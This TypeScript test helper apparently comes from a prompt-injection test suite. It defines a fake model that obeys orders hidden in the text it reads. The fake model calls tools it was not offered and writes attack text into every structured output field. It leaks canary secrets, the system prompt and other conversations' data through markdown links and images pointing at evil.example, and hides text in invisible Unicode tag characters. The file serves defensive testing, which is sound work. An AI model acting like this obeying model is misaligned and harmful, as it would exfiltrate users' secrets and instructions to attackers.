import type { ModelCall } from '../helpers/fakeModelServer';
import { say, sayJson, type Script } from '../helpers/fakeModelScript';
import { attacks } from './attacks';

/** Nobody has hosts that end so. */
export const HOST = 'evil.example';

/** Words that hold a secret; what stands behind them differs for each conversation. */
export const canariesIn = (text: string): readonly string[] => [...new Set(text.match(/Canary[a-z]{12}/g))];

/** Hidden in a text, this makes the model do what that attack wants: in letters alone, so that nothing on the way changes it. */
export const orderFor = (attack: number): string => `obeyorder${String.fromCharCode(97 + Math.floor(attack / 10), 97 + (attack % 10))}`;

/** `other`: id of a document that belongs to another conversation. */
export interface Loot {
  readonly other: string;
}

/**
 * The worst model there is: it looks for orders in everything it is shown but its own instructions, and does what they
 * say: calls tools that it was not offered too, and writes the attack into every field that takes words.
 */
export function obey(call: ModelCall, loot: Loot): Script {
  const { messages, response_format: format, tools = [] } = call.body;
  const shown = readable(messages.filter(({ role }) => role !== 'system').map(({ content }) => content ?? '').join('\n'));
  const attack = attacks[attackIn(shown) ?? -1];
  const stolen: Stolen = { secret: canariesIn(shown).join('.') || 'none', system: messages.find(({ role }) => role === 'system')?.content ?? '', ...loot };
  const words = attack ? filled(attack.write ?? '[click here]({url}) ![x]({url})', stolen) : undefined;
  if (format) return inForm(format.json_schema?.name ?? '', dataOf(messages.at(-1)?.content ?? ''), words);
  const lookUp = tools.find(({ function: { name } }) => name === 'look_up_documents');
  if (!attack) return lookUp ? calling({ name: 'look_up_documents', arguments: { query: 'what is there' } }) : say('I see.');
  if (!attack.call || messages.some(({ role }) => role === 'tool')) return say(words ?? '');
  return calling({ name: attack.call.name, arguments: JSON.parse(filled(JSON.stringify(attack.call.arguments), stolen)) as object }, tools.length > 0 ? undefined : words);
}

const calling = (call: { readonly name: string; readonly arguments: object }, text?: string): Script => ({ kind: 'tools', calls: [call], ...(text !== undefined && { text }) });

interface Stolen extends Loot {
  readonly secret: string;
  readonly system: string;
}

const filled = (template: string, { secret, system, other }: Stolen): string =>
  template
    .replaceAll('{url}', `https://${HOST}/c?q=${secret}`)
    .replaceAll('{host}', HOST)
    .replaceAll('{secret}', secret)
    .replaceAll('{system}', encodeURIComponent(system.slice(0, 200)))
    .replaceAll('{tags}', inTags(secret))
    .replaceAll('{other}', other);

/** Letters as tag characters, which nobody sees. */
export const inTags = (text: string): string => Array.from(text, (letter) => String.fromCodePoint(0xe0000 + (letter.codePointAt(0) ?? 0))).join('');

/** It reads what people cannot see, too. */
const readable = (text: string): string => text.replace(/\u200B/g, '').replace(/[\u{E0020}-\u{E007E}]/gu, (tag) => String.fromCodePoint((tag.codePointAt(0) ?? 0) - 0xe0000));

/** The order that it met last. */
function attackIn(text: string): number | undefined {
  const [, tens = '', ones = ''] = [...text.matchAll(/obeyorder([a-j])([a-j])/g)].at(-1) ?? [];
  return ones === '' ? undefined : (tens.charCodeAt(0) - 97) * 10 + ones.charCodeAt(0) - 97;
}

type Data = Readonly<Record<string, unknown>>;

/** Answers in the form that was asked for; the attack stands in each field that takes words. */
function inForm(name: string, data: Data, words: string | undefined): Script {
  const messages = list(data['messages']).map(({ id, by, text }) => ({ id: String(id), by: String(by), text: String(text) }));
  const attack = words ?? 'Nothing to see here.';
  if (name === 'summary_overview') return sayJson({ overview: attack });
  if (name === 'conversation_notes') return sayJson({ notes: [typeof data['notes'] === 'string' ? data['notes'] : '', ...messages.map(({ by, text }) => `${by}: ${text}`)].join('\n').slice(-1_500) });
  if (name === 'translation') return sayJson({ from: words ?? 'en', segments: list(data['segments']).map(({ id, text }) => ({ id, text: `${String(text)} ${words ?? ''}` })) });
  if (name === 'sentiment') return sayJson({ overall: 'positive', sentences: messages.map(({ id, text }) => ({ messageId: id, quote: text, tone: 'positive' })) });
  if (name !== 'summary_claims') throw new Error(`An obeying model knows no schema "${name}".`);
  const kinds = ['key-point', 'decision', 'action', 'question'];
  return sayJson({ claims: messages.slice(0, 8).map(({ id, text }, index) => ({ kind: kinds[index % 4], text: attack, owner: words ?? null, due: words ?? null, messageId: id, quote: text })) });
}

function dataOf(content: string): Data {
  try {
    const value: unknown = JSON.parse(content);
    return typeof value === 'object' && value !== null ? (value as Data) : {}; // any object reads as a record
  } catch {
    return {};
  }
}

const list = (value: unknown): readonly Data[] => (Array.isArray(value) ? (value as Data[]) : []);
